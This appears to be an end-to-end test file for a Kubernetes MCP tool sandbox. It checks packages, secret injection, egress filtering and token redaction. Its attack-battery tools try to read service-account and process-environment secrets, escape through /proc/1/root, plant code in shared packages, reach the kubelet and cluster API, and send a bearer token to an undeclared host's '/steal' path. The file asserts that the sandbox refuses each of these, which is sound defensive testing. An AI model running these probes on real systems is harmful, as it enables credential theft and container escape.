// Packages, secrets and egress on a real kubelet, one node run for all three. The executor image
// is the example image with packages (sandbox-image/packages/Dockerfile, built FROM the project's
// sandbox image with the example's pinned packages) plus the egress world's test CA in its
// system bundle (test/fixtures/egress-world/executor.Dockerfile), the way a user with a private
// CA builds one; the McpServer names it in spec.executor.image and only that image (not the
// chart's default executor image) is on the node, so a running executor proves the controller
// deploys the field. An agent pod calls, through the gateway Service, a python and a node tool
// that import the packages, the attack battery in that image, and the example tools of
// examples/tools-api with their token Secret against the outside: the node harness gives the host
// the world's public test addresses (outsideAddresses), CoreDNS answers the world's names, and
// the world's recording HTTPS server runs in this process on those addresses. Steps depend on
// the ones before (a failed step fails the later ones, none is skipped). One node runs per
// machine: this file waits for real-node.test.ts's node to go, and the other way round.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before } from 'node:test';
import { parse, stringify } from 'yaml';
import { main } from '../../src/cli/main.ts';
import { WORLD, type WorldEvent } from '../harness/egress-world.ts';
import { startOutsideServers, type OutsideServers } from '../harness/egress-world-server.ts';
import {
  ensurePackagesImage,
  ensureProjectImages,
  ensureWorldCaImage,
  type ProjectImage,
} from '../harness/images.ts';
import { startNodeCluster, type NodeCluster } from '../harness/node.ts';
import { EXAMPLE_PINS } from '../harness/packages.ts';
import { repoRoot } from '../harness/paths.ts';
import { eventually } from '../harness/wait.ts';
import {
  dependentSteps,
  getJson as getJsonOf,
  kubectlOf,
  printDiagnostics,
  runAgent,
  type CallResult,
} from './real-node-steps.ts';
import ticketsApi, {
  EXAMPLE_DIR,
  exampleToken,
  KNOWN_TICKET,
  NEW_TICKET_ID,
} from './tickets-api.ts';

const NS = 'mcp-tools';
const SYSTEM_NS = 'mcpworks-system';
const CLIENT_IMAGE = 'docker.io/mcpworks/mcpworks:0.1.0';
const URL = `http://tools-gateway.${NS}.svc:8080/mcp`;

let cluster: NodeCluster;
let executorImage: ProjectImage;
let outside: OutsideServers | undefined;
const token = exampleToken();
/** The world's hosts the outside servers play (the private name resolves, nothing listens). */
const OUTSIDE_ADDRESSES = [WORLD.apiAddress, WORLD.otherAddress];
let apiKey = '';
const kubectl = kubectlOf(() => cluster);
const yamlDocs = (...objects: object[]) => objects.map((o) => stringify(o)).join('---\n');
/** The image's name as a pod spec writes it (containerd resolves it to the imported docker.io/ one). */
const shortRef = (ref: string) => ref.replace(/^docker\.io\//, '');

const step = dependentSteps(() =>
  printDiagnostics(kubectl, {
    kinds: 'pods,deployments,mcpservers',
    namespaces: [SYSTEM_NS, NS],
    serverNamespace: NS,
    extra: () => `# --- the outside saw\n${JSON.stringify(outside?.events() ?? [])}`,
  }),
);

const getJson = <T>(args: string[]) => getJsonOf<T>(kubectl, args);

/** One call from the agent pod (test/e2e/real-node-client.mjs) with the API key. */
const call = (tool: string, args: Record<string, unknown> = {}) =>
  runAgent(kubectl, NS, { op: 'call', url: URL, token: apiKey, tool, args });

/** A call and what the outside recorded while it ran. */
async function callOutside(
  tool: string,
  args: Record<string, unknown>,
): Promise<{ r: CallResult; events: WorldEvent[] }> {
  const before = outside!.events().length;
  const r = await call(tool, args);
  return { r, events: outside!.events().slice(before) };
}

const py = (body: string) => `def main(args):\n${body.replace(/^/gm, '    ')}\n`;

const tools = [
  {
    name: 'punycode',
    description: 'The ASCII form of an internationalised host name (the idna package).',
    runtime: 'python',
    code: `import idna\nfrom idna.package_data import __version__\n${py('return {"ace": idna.encode(args["host"]).decode(), "version": __version__}')}`,
  },
  {
    name: 'duration',
    description: 'Milliseconds in a human duration (the ms package).',
    runtime: 'node',
    code: "const ms = require('ms');\nfunction main(args) { return { ms: ms(args.span), version: require('ms/package.json').version }; }\n",
  },
  {
    name: 'yaml_keys',
    description: 'Needs PyYAML, which the image does not carry.',
    runtime: 'python',
    code: `import yaml\n${py('return 1')}`,
  },
  {
    name: 'plant_package',
    description: 'Tries to change the packages every later call imports.',
    runtime: 'python',
    code: `import errno, idna\n${py(
      [
        'out = []',
        'for path, mode in [("/opt/mcpworks/packages/python/planted.py", "w"), (idna.__file__, "a")]:',
        '    try:',
        '        open(path, mode).write("import os")',
        '        out.append("written")',
        '    except OSError as e:',
        '        out.append(errno.errorcode[e.errno])',
        'return out',
      ].join('\n'),
    )}`,
  },
  {
    name: 'connect',
    description: 'Opens a TCP connection (the sandbox must refuse).',
    runtime: 'python',
    code: `import socket\n${py('s = socket.create_connection((args["host"], args["port"]), timeout=3)\nreturn "connected"')}`,
  },
  {
    name: 'find_secrets',
    description: 'Looks for the executor token where tool code could see it.',
    runtime: 'python',
    code: `import os\n${py(
      [
        'found = {"env": dict(os.environ)}',
        'for root in ["/var/run/secrets", "/run/secrets", "/proc/1/environ", "/proc/self/environ"]:',
        '    try:',
        '        found[root] = open(root).read() if os.path.isfile(root) else sorted(os.listdir(root))',
        '    except Exception as e:',
        '        found[root] = type(e).__name__',
        'return found',
      ].join('\n'),
    )}`,
  },
  {
    name: 'proc1_root',
    description: "Looks through /proc/1/root for the executor container's root.",
    runtime: 'python',
    code: `import os\n${py(
      [
        'out = {"root": sorted(os.listdir("/")), "proc1": sorted(os.listdir("/proc/1/root/"))}',
        // the jail's own root has /opt/mcpworks/packages; the container's has the rest
        'out["executor"] = [p for p in ["/proc/1/root/opt/mcpworks/runtime-roots", "/proc/1/root/opt/mcpworks/proc", "/proc/1/root/app", "/proc/1/root/usr/local/bin/nsjail"] if os.path.exists(p)]',
        'out["opt"] = sorted(os.listdir("/opt/mcpworks"))',
        'return out',
      ].join('\n'),
    )}`,
  },
].map((tool) => ({ ...tool, timeoutSeconds: 10 }));

const TOKEN_SECRET = {
  name: 'TICKET_API_TOKEN',
  secretKeyRef: { name: 'ticket-api-token', key: 'token' },
};

/** The example's two tools (get_ticket in python, create_ticket in node), as shipped. */
const exampleTools = (
  parse(readFileSync(join(EXAMPLE_DIR, 'mcpserver.yaml'), 'utf8')) as {
    spec: { tools: Record<string, unknown>[] };
  }
).spec.tools;

const egressTools = [
  ...exampleTools,
  {
    // allowed the private-resolving name too, so that its refusal is the proxy's address check
    name: 'py_fetch',
    description: 'GETs a URL with the token (egress probe).',
    runtime: 'python',
    timeoutSeconds: 20,
    secretEnv: [TOKEN_SECRET],
    egress: [{ host: WORLD.apiHost }, { host: WORLD.privateHost }],
    code: `import os, urllib.request\n${py(
      [
        'request = urllib.request.Request(args["url"], headers={"Authorization": "Bearer " + os.environ["TICKET_API_TOKEN"]})',
        'with urllib.request.urlopen(request, timeout=10) as response:',
        '    return {"status": response.status, "body": response.read().decode()}',
      ].join('\n'),
    )}`,
  },
  {
    name: 'py_direct',
    description: 'A TCP connection and a UDP datagram around the proxy (the sandbox refuses both).',
    runtime: 'python',
    timeoutSeconds: 10,
    egress: [{ host: WORLD.apiHost }],
    code: `import socket
${py(
  [
    'out = {}',
    'try:',
    '    socket.create_connection((args["address"], 443), timeout=3)',
    '    out["tcp"] = "connected"',
    'except OSError as e:',
    '    out["tcp"] = type(e).__name__',
    'try:',
    '    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (args["address"], 53))',
    '    out["udp"] = "sent"',
    'except OSError as e:',
    '    out["udp"] = type(e).__name__',
    'return out',
  ].join('\n'),
)}`,
  },
  {
    name: 'leak_token',
    description: 'Returns its secret as it is and encoded (redaction probe).',
    runtime: 'python',
    timeoutSeconds: 10,
    secretEnv: [TOKEN_SECRET],
    code: `import base64, os\n${py(
      [
        'token = os.environ["TICKET_API_TOKEN"]',
        'return {"raw": token, "base64": base64.b64encode(token.encode()).decode(), "sentence": "I used " + token + " for that"}',
      ].join('\n'),
    )}`,
  },
];

before(
  async () => {
    const log = (l: string) => console.log(`# ${l}`);
    const images = await ensureProjectImages({ log });
    executorImage = await ensureWorldCaImage(await ensurePackagesImage(images, { log }), { log });
    // make test runs e2e files two at a time: wait out real-node.test.ts's node if it has it
    cluster = await startNodeCluster({
      imageTars: [images.operator.tar, executorImage.tar],
      lockTimeoutMs: 30 * 60_000,
      outsideAddresses: OUTSIDE_ADDRESSES,
      dnsAnswers: {
        [WORLD.apiHost]: WORLD.apiAddress,
        [WORLD.otherHost]: WORLD.otherAddress,
        [WORLD.privateHost]: WORLD.privateAddress,
      },
    });
    outside = await startOutsideServers(OUTSIDE_ADDRESSES, ticketsApi);
  },
  { timeout: 45 * 60_000 },
);

after(async () => {
  await outside?.close();
  const problems = (await cluster?.stop()) ?? [];
  assert.deepEqual(problems, [], 'the node stopped cleanly');
});

step(
  '1. helm install; an McpServer whose executor image (packages, a private CA) is Ready',
  async () => {
    const image = shortRef(executorImage.ref);
    await cluster.helm(
      [
        'install',
        'mcpworks',
        join(repoRoot, 'charts', 'mcpworks'),
        '--namespace',
        SYSTEM_NS,
        '--create-namespace',
      ],
      { timeoutMs: 120_000 },
    );
    await kubectl(
      ['-n', SYSTEM_NS, 'rollout', 'status', 'deployment/mcpworks', '--timeout=180s'],
      undefined,
      200_000,
    );
    let printed = '';
    const io = { stdout: (t: string) => (printed += t), stderr: () => {}, env: {}, cwd: repoRoot };
    assert.equal(await main(['apikey', 'new', 'report-bot', '--agent', 'report-bot'], io), 0);
    const entry = /^\s+report-bot: '(.+)'$/m.exec(printed)?.[1];
    apiKey = /^\s+(mcpw_report-bot_\S+)$/m.exec(printed)?.[1] ?? '';
    assert.ok(entry && apiKey, printed);
    const client = readFileSync(join(repoRoot, 'test', 'e2e', 'real-node-client.mjs'), 'utf8');
    await kubectl(
      ['apply', '-f', '-'],
      yamlDocs(
        {
          apiVersion: 'v1',
          kind: 'Namespace',
          metadata: {
            name: NS,
            labels: {
              'pod-security.kubernetes.io/enforce': 'privileged',
              'pod-security.kubernetes.io/warn': 'restricted',
            },
          },
        },
        {
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'tools-api-keys', namespace: NS },
          stringData: { 'report-bot': entry },
        },
        {
          apiVersion: 'v1',
          kind: 'Secret',
          metadata: { name: 'ticket-api-token', namespace: NS },
          stringData: { token },
        },
        {
          apiVersion: 'v1',
          kind: 'ConfigMap',
          metadata: { name: 'e2e-agent', namespace: NS },
          data: { 'client.mjs': client },
        },
        {
          apiVersion: 'mcpworks.io/v1alpha1',
          kind: 'McpServer',
          metadata: { name: 'tools', namespace: NS },
          spec: {
            tools: [...tools, ...egressTools],
            auth: { apiKeys: { secretRef: { name: 'tools-api-keys' } } },
            gateway: { replicas: 1 },
            executor: { replicas: 1, warmPoolSize: 1, image },
          },
        },
        {
          apiVersion: 'mcpworks.io/v1alpha1',
          kind: 'AgentPolicy',
          metadata: { name: 'tools-access', namespace: NS },
          spec: {
            servers: { names: ['tools'] },
            rules: [
              {
                effect: 'Allow',
                subjects: [{ kind: 'Agent', name: 'report-bot' }],
                tools: ['*'],
                reason: 'the end-to-end agent may call every tool',
              },
            ],
          },
        },
        {
          apiVersion: 'v1',
          kind: 'Pod',
          metadata: { name: 'agent', namespace: NS },
          spec: {
            terminationGracePeriodSeconds: 0,
            securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } },
            containers: [
              {
                name: 'agent',
                image: CLIENT_IMAGE,
                imagePullPolicy: 'Never',
                command: ['node', '-e', 'setInterval(() => {}, 1 << 30)'],
                securityContext: {
                  allowPrivilegeEscalation: false,
                  capabilities: { drop: ['ALL'] },
                  readOnlyRootFilesystem: true,
                },
                volumeMounts: [{ name: 'client', mountPath: '/app/e2e', readOnly: true }],
              },
            ],
            volumes: [{ name: 'client', configMap: { name: 'e2e-agent' } }],
          },
        },
      ),
    );
    await kubectl(
      ['-n', NS, 'wait', '--for=condition=Ready', 'pod/agent', '--timeout=90s'],
      undefined,
      100_000,
    );
    await eventually(
      'tools Ready',
      async () => {
        const s = await getJson<{
          metadata: { generation: number };
          status?: { observedGeneration?: number; conditions?: { type: string; status: string }[] };
        }>(['-n', NS, 'get', 'mcpserver', 'tools']);
        const ready = s.status?.conditions?.find((c) => c.type === 'Ready')?.status === 'True';
        return s.status?.observedGeneration === s.metadata.generation && ready ? true : undefined;
      },
      { timeoutMs: 240_000, intervalMs: 1000 },
    );
    const deployment = await getJson<{
      spec: { template: { spec: { containers: { name: string; image: string }[] } } };
    }>(['-n', NS, 'get', 'deployment', 'tools-executor']);
    assert.deepEqual(
      deployment.spec.template.spec.containers.map((c) => c.image),
      [image],
      'the executor pods run the image with packages',
    );
  },
  500_000,
);

step('2. a python and a node tool import the pinned packages, called from a pod', async () => {
  const python = await call('punycode', { host: 'bücher.example' });
  assert.equal(python.ok, true, JSON.stringify(python));
  assert.deepEqual(JSON.parse(python.text ?? ''), {
    ace: 'xn--bcher-kva.example',
    version: EXAMPLE_PINS.python.idna,
  });
  const node = await call('duration', { span: '2 days' });
  assert.equal(node.ok, true, JSON.stringify(node));
  assert.deepEqual(JSON.parse(node.text ?? ''), { ms: 172_800_000, version: EXAMPLE_PINS.node.ms });
});

step('3. a package the image lacks: an error result naming it', async () => {
  const r = await call('yaml_keys');
  assert.equal(r.isError, true, JSON.stringify(r));
  assert.match(
    r.text ?? '',
    /No module named 'yaml': the executor image does not carry the package providing 'yaml'/,
  );
});

step('4. the attack battery in the image with packages', async () => {
  const planted = await call('plant_package');
  assert.equal(planted.ok, true, JSON.stringify(planted));
  assert.deepEqual(JSON.parse(planted.text ?? ''), ['EROFS', 'EACCES']);

  const serviceIp = async (ns: string, name: string) =>
    (await getJson<{ spec: { clusterIP: string } }>(['-n', ns, 'get', 'service', name])).spec
      .clusterIP;
  for (const [host, port] of [
    [await serviceIp(NS, 'tools-gateway'), 8080],
    [await serviceIp('default', 'kubernetes'), 443],
    [cluster.bridgeAddress, 10250],
  ] as const) {
    const r = await call('connect', { host, port });
    assert.equal(r.isError, true, `${host}:${port} ${JSON.stringify(r)}`);
    assert.doesNotMatch(r.text ?? '', /connected/);
  }

  const secret = await getJson<{ data: Record<string, string> }>([
    '-n',
    NS,
    'get',
    'secret',
    'tools-executor-token',
  ]);
  const executorToken = Buffer.from(secret.data['token'] ?? '', 'base64').toString();
  assert.ok(executorToken.length > 16);
  const found = await call('find_secrets');
  assert.equal(found.ok, true, JSON.stringify(found));
  assert.ok(!(found.text ?? '').includes(executorToken), 'the executor token is visible');
  assert.doesNotMatch(found.text ?? '', /MCPWORKS_EXECUTOR_TOKEN|eyJhbGci/);

  const escaped = await call('proc1_root');
  assert.equal(escaped.ok, true, JSON.stringify(escaped));
  const seen = JSON.parse(escaped.text ?? '') as {
    root: string[];
    proc1: string[];
    executor: string[];
    opt: string[];
  };
  assert.deepEqual(seen.proc1, seen.root, '/proc/1/root is the jail itself');
  assert.deepEqual(seen.executor, [], 'nothing of the executor container is reachable');
  assert.deepEqual(seen.opt, ['packages'], "the jail's /opt/mcpworks holds only the packages");
});

/** The decision records (the gateway pod's log lines) of `tool`, oldest first. */
async function decisions(tool: string): Promise<DecisionLine[]> {
  const pods = await getJson<{ items: { metadata: { name: string } }[] }>([
    '-n',
    NS,
    'get',
    'pods',
    '-l',
    'app.kubernetes.io/component=gateway',
  ]);
  const lines: DecisionLine[] = [];
  for (const pod of pods.items) {
    const { stdout } = await kubectl(['-n', NS, 'logs', pod.metadata.name]);
    for (const l of stdout.split('\n')) {
      if (!l.includes('"msg":"decision"')) continue;
      const d = JSON.parse(l) as DecisionLine;
      if (d.tool === tool && d.method === 'tools/call') lines.push(d);
    }
  }
  return lines;
}

interface DecisionLine {
  tool?: string;
  method?: string;
  outcome?: string;
  egress?: {
    host: string;
    port: number;
    address?: string;
    allowed: boolean;
    reason: string;
    bytesUp: number;
    bytesDown: number;
  }[];
  redactions?: Record<string, number>;
}

step('5. the example tools reach the outside with the token from their Secret', async () => {
  const got = await callOutside('get_ticket', { id: KNOWN_TICKET.id });
  assert.equal(got.r.ok, true, JSON.stringify(got));
  assert.deepEqual(JSON.parse(got.r.text ?? ''), KNOWN_TICKET);
  const [seen, ...more] = got.events.filter((e) => e.kind === 'request');
  assert.deepEqual(more, [], JSON.stringify(got.events));
  assert.equal(seen?.method, 'GET');
  assert.equal(seen.path, `/api/v1/tickets/${KNOWN_TICKET.id}`);
  assert.equal(seen.servername, WORLD.apiHost);
  assert.equal(seen.localAddress, WORLD.apiAddress);
  assert.equal(seen.headers.authorization, `Bearer ${token}`);

  const created = await callOutside('create_ticket', { title: 'Printer on fire' });
  assert.equal(created.r.ok, true, JSON.stringify(created));
  assert.deepEqual(JSON.parse(created.r.text ?? ''), { id: NEW_TICKET_ID, status: 'open' });
  const posts = created.events.filter((e) => e.kind === 'request');
  assert.equal(posts.length, 1, JSON.stringify(created.events));
  assert.equal(posts[0]?.method, 'POST');
  assert.equal(posts[0].headers.authorization, `Bearer ${token}`);
  for (const r of [got.r, created.r]) assert.ok(!JSON.stringify(r).includes(token));
});

step('6. a tool that returns its token: the agent gets it redacted', async () => {
  const r = await call('leak_token');
  assert.equal(r.ok, true, JSON.stringify(r));
  for (const form of [token, Buffer.from(token).toString('base64')])
    assert.ok(!JSON.stringify(r).includes(form), `${form} in ${JSON.stringify(r)}`);
  assert.match(r.text ?? '', /I used \[REDACTED:TICKET_API_TOKEN\] for that/);
});

step(
  '7. another host, a private-resolving name, a raw IP, sockets around the proxy: refused, the outside saw nothing',
  async () => {
    for (const [url, reason] of [
      [`https://${WORLD.otherHost}/steal`, 'not-declared'],
      [`https://${WORLD.privateHost}/`, 'private-address'],
      [`https://${WORLD.apiAddress}/api/v1/tickets/${KNOWN_TICKET.id}`, 'raw-ip'],
    ] as const) {
      const { r, events } = await callOutside('py_fetch', { url });
      assert.equal(r.isError, true, `${url} ${JSON.stringify(r)}`);
      assert.match(r.text ?? '', /403/, url);
      assert.deepEqual(events, [], url);
      assert.ok(!JSON.stringify(r).includes(token));
      const record = await eventually(
        `the decision record of py_fetch ${url}`,
        async () => (await decisions('py_fetch')).find((d) => d.egress?.[0]?.reason === reason),
        { timeoutMs: 20_000, intervalMs: 500 },
      );
      assert.deepEqual(
        record.egress?.map((a) => [a.allowed, a.reason, a.bytesUp]),
        [[false, reason, 0]],
        JSON.stringify(record),
      );
    }
    // Around the proxy: refused by the sandbox, reported by its runtime (not-proxied).
    const direct = await callOutside('py_direct', { address: WORLD.apiAddress });
    assert.equal(direct.r.ok, true, JSON.stringify(direct.r));
    assert.deepEqual(JSON.parse(direct.r.text ?? '{}'), { tcp: 'OSError', udp: 'PermissionError' });
    assert.deepEqual(direct.events, []);
    const [directRecord] = await eventually(
      'the decision record of py_direct',
      async () => {
        const found = await decisions('py_direct');
        return found.length > 0 ? found : undefined;
      },
      { timeoutMs: 20_000, intervalMs: 500 },
    );
    assert.deepEqual(
      directRecord?.egress?.map((a) => [a.host, a.port, a.allowed, a.reason]),
      [
        [WORLD.apiAddress, 443, false, 'not-proxied'],
        [WORLD.apiAddress, 443, false, 'not-proxied'],
        ['', 0, false, 'not-proxied'],
      ],
      JSON.stringify(directRecord),
    );
    // control: the same tool reaches the allowed host
    const control = await callOutside('py_fetch', {
      url: `https://${WORLD.apiHost}/api/v1/tickets/${KNOWN_TICKET.id}`,
    });
    assert.equal(control.r.ok, true, JSON.stringify(control));
    assert.equal(control.events.filter((e) => e.kind === 'request').length, 1);
  },
);

step('8. the decision records hold the egress attempts and the redaction counts', async () => {
  const [ticket] = await decisions('get_ticket');
  assert.equal(ticket?.outcome, 'ok', JSON.stringify(ticket));
  assert.deepEqual(
    ticket.egress?.map((a) => [a.host, a.port, a.address, a.allowed, a.reason]),
    [[WORLD.apiHost, 443, WORLD.apiAddress, true, 'allowed']],
    JSON.stringify(ticket),
  );
  assert.ok(ticket.egress[0]!.bytesUp > 0 && ticket.egress[0]!.bytesDown > 0);
  const [leak] = await decisions('leak_token');
  assert.deepEqual(Object.keys(leak?.redactions ?? {}), ['TICKET_API_TOKEN'], JSON.stringify(leak));
  assert.ok(leak!.redactions!.TICKET_API_TOKEN! >= 3, JSON.stringify(leak));
  const pods = await getJson<{ items: { metadata: { name: string } }[] }>([
    '-n',
    NS,
    'get',
    'pods',
    '-l',
    'app.kubernetes.io/name',
  ]);
  for (const pod of pods.items) {
    const { stdout } = await kubectl(['-n', NS, 'logs', '--all-containers', pod.metadata.name]);
    assert.ok(!stdout.includes(token), `the token is in the log of ${pod.metadata.name}`);
  }
});

step(
  "9. the executor's NetworkPolicy lets out DNS and the declared port to public addresses",
  async () => {
    // The test node's CNI (bridge) does not enforce NetworkPolicy: what steps 5-7 prove is the
    // executor's egress proxy; this checks the policy a cluster with an enforcing CNI applies.
    const policy = await getJson<{
      spec: {
        policyTypes: string[];
        egress?: { to: Record<string, unknown>[]; ports: { protocol: string; port: number }[] }[];
      };
    }>(['-n', NS, 'get', 'networkpolicy', 'tools-executor']);
    assert.deepEqual(policy.spec.policyTypes, ['Ingress', 'Egress']);
    const [dns, out, ...rest] = policy.spec.egress ?? [];
    assert.deepEqual(rest, []);
    assert.deepEqual(dns?.ports, [
      { protocol: 'UDP', port: 53 },
      { protocol: 'TCP', port: 53 },
    ]);
    assert.deepEqual(out?.ports, [{ protocol: 'TCP', port: 443 }]);
    const v4 = out.to.find((t) => (t['ipBlock'] as { cidr?: string })?.cidr === '0.0.0.0/0');
    const except = (v4?.['ipBlock'] as { except?: string[] } | undefined)?.except ?? [];
    for (const cidr of ['10.0.0.0/8', '169.254.0.0/16', '127.0.0.0/8'])
      assert.ok(except.includes(cidr), JSON.stringify(out));
    // Nothing the pods sent left the machine by another interface.
    assert.equal((await cluster.guardCounters()).leaked, 0);
  },
);

step(
  '10. a missing Secret key: the McpServer is Degraded, its tool fails, the others work',
  async () => {
    const missing = {
      name: 'missing_key',
      description: 'Reads a key the Secret does not have.',
      runtime: 'python',
      timeoutSeconds: 10,
      secretEnv: [{ name: 'ABSENT', secretKeyRef: { name: 'ticket-api-token', key: 'absent' } }],
      code: py('return "ran"'),
    };
    await kubectl([
      '-n',
      NS,
      'patch',
      'mcpserver',
      'tools',
      '--type=json',
      '-p',
      JSON.stringify([{ op: 'add', path: '/spec/tools/-', value: missing }]),
    ]);
    const degraded = await eventually(
      'tools Degraded (SecretKeyNotFound)',
      async () => {
        const s = await getJson<{
          metadata: { generation: number };
          status?: {
            observedGeneration?: number;
            conditions?: { type: string; status: string; reason?: string; message?: string }[];
          };
        }>(['-n', NS, 'get', 'mcpserver', 'tools']);
        const c = s.status?.conditions?.find((c) => c.type === 'Degraded');
        return s.status?.observedGeneration === s.metadata.generation && c?.status === 'True'
          ? c
          : undefined;
      },
      { timeoutMs: 120_000, intervalMs: 1000 },
    );
    assert.equal(degraded.reason, 'SecretKeyNotFound', JSON.stringify(degraded));
    assert.match(
      degraded.message ?? '',
      /ticket-api-token has no key "absent".*ABSENT of tool missing_key/,
    );
    assert.ok(!(degraded.message ?? '').includes(token));
    for (const component of ['executor', 'gateway']) {
      await kubectl(
        ['-n', NS, 'rollout', 'status', `deployment/tools-${component}`, '--timeout=120s'],
        undefined,
        130_000,
      );
    }
    const broken = await eventually(
      'the new tool is served',
      async () => {
        const r = await call('missing_key');
        return /unknown tool|not found/i.test(r.text ?? r.error ?? '') ? undefined : r;
      },
      { timeoutMs: 60_000, intervalMs: 1000 },
    );
    assert.equal(broken.ok, false, JSON.stringify(broken));
    assert.doesNotMatch(broken.text ?? '', /ran/);
    const ticket = await callOutside('get_ticket', { id: KNOWN_TICKET.id });
    assert.equal(ticket.r.ok, true, JSON.stringify(ticket));
    assert.equal(ticket.events.filter((e) => e.kind === 'request').length, 1);
  },
);
